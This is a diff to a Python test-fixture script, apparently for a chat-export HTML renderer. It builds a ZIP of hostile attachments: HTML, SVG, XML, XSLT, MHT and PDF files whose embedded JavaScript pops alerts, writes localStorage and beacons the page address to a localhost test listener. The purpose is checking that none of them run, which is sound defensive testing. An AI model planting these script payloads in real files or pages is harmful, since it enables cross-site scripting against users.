@@ -80,4 +80,79 @@ doc = {"conversations": [{
                      "create_time": "2025-05-01T08:00:00Z"},
     "responses": [resp(10, None, "human", "Hello"), resp(11, "h-r10", "assistant", "Hi! **Bold** and `code`.")],
 }]}
-json.dump(doc, open(sys.argv[1] if len(sys.argv) > 1 else "tests/html/hostile/input.json", "w"), indent=1)
+
+
+# ---- hostile attachments (tests/html_click.py builds a ZIP of them) -------
+# Each one, were it opened as a page, would pop a dialog, retitle the page,
+# write localStorage and send a request to the test's listener on
+# 127.0.0.1:PORT carrying the page's address. None may do any of it.
+ATTACH_USER = '0f1e2d3c-4b5a-4678-9abc-def012345678'
+
+def attachment_payload(port):
+    return ("alert('PW'+'NED-ATT');document.title='PW'+'NED-ATT';try{localStorage.x=1}catch(e){}"
+            "new Image().src='http://127.0.0.1:%d/img?'+encodeURIComponent(location.href);"
+            "fetch('http://127.0.0.1:%d/fetch?'+encodeURIComponent(location.href)).catch(function(){})" % (port, port))
+
+def hostile_assets(port):
+    """{asset id: bytes}, one per kind of active file."""
+    js = attachment_payload(port)
+    pdf = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj\n"
+           b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
+           b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj\n"
+           b"4 0 obj << /Type /Action /S /JavaScript /JS (app.alert\\('PWNED-PDF'\\);) >> endobj\n"
+           b"trailer << /Root 1 0 R >>\n%%EOF\n")
+    kinds = {
+        'html': '<!DOCTYPE html><html><head><title>x</title></head><body><script>%s</script></body></html>' % js,
+        'html-lower': '<!doctype html>\n<body onload="%s">lower-case doctype</body>' % js.replace('"', '&quot;'),
+        'html-late': 'Some notes first, then\n<html><body><script>%s</script></body></html>\n' % js,
+        'svg': ('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="%s">'
+                '<script>%s</script><rect width="40" height="40" fill="red"/></svg>') % (js.replace('"', '&quot;'), js),
+        'svg-xml': ('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">'
+                    '<script><![CDATA[%s]]></script><circle r="20" cx="20" cy="20"/></svg>') % js,
+        'xhtml': ('<?xml version="1.0" encoding="UTF-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><head>'
+                  '<title>x</title></head><body><script><![CDATA[%s]]></script></body></html>') % js,
+        'xml': ('<?xml version="1.0"?>\n<doc><x:script xmlns:x="http://www.w3.org/1999/xhtml"><![CDATA[%s]]>'
+                '</x:script></doc>') % js,
+        'xslt': ('<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="#s"?>\n<doc><xsl:stylesheet id="s" '
+                 'version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
+                 '<html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[%s]]></script></body></html>'
+                 '</xsl:template></xsl:stylesheet></doc>') % js,
+        'mht': ('MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\n'
+                'Content-Type: text/html\r\nContent-Location: file:///x.html\r\n\r\n<script>%s</script>\r\n--b--\r\n') % js,
+        'no-type': ('<html><script>%s</script></html>\n' % js).encode() + b'\xff\xfe\x00 binary tail',  # sniffed as bin
+        'pdf': pdf,
+        'png': b'\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\0\x05\0\x01\xff\x89\x99=\x1d\0\0\0\0IEND\xaeB`\x82',
+    }
+    out = {}
+    for i, (k, v) in enumerate(sorted(kinds.items())):
+        out['a77ac4ed-0000-4000-8000-%012d' % i] = (k, v if isinstance(v, bytes) else v.encode())
+    return out
+
+def attachment_zip(path, port):
+    """An export whose messages carry every hostile attachment, as uploads
+    and as a generated image (the SVG), in a ZIP as downloaded."""
+    import zipfile
+    assets = hostile_assets(port)
+    ids = sorted(assets)
+    svg = [i for i in ids if assets[i][0] == 'svg'][0]
+    msgs = [
+        {"response": {"_id": "a-r0", "sender": "human", "message": "Here are my files",
+                      "create_time": {"$date": {"$numberLong": "1749554989000"}}, "file_attachments": ids}},
+        {"response": {"_id": "a-r1", "parent_response_id": "a-r0", "sender": "assistant", "model": "grok-4",
+                      "message": "A generated picture:",
+                      "create_time": {"$date": {"$numberLong": "1749554990000"}},
+                      "generated_image_urls": ["users/%s/generated/%s/image.jpg" % (ATTACH_USER, svg)]}},
+    ]
+    doc = {"conversations": [{"conversation": {"id": "a77ac4ed-aaaa-4000-8000-000000000000",
+                                               "title": "Hostile attachments",
+                                               "create_time": "2025-06-10T11:29:49Z"}, "responses": msgs}]}
+    root = 'ttl/30d/export_data/%s/' % ATTACH_USER
+    with zipfile.ZipFile(path, 'w') as zf:
+        zf.writestr(root + 'prod-grok-backend.json', json.dumps(doc))
+        for i in ids:
+            zf.writestr(root + 'prod-mc-asset-server//%s/content' % i, assets[i][1])
+    return assets
+
+
+if __name__ == '__main__':
+    json.dump(doc, open(sys.argv[1] if len(sys.argv) > 1 else "tests/html/hostile/input.json", "w"), indent=1)
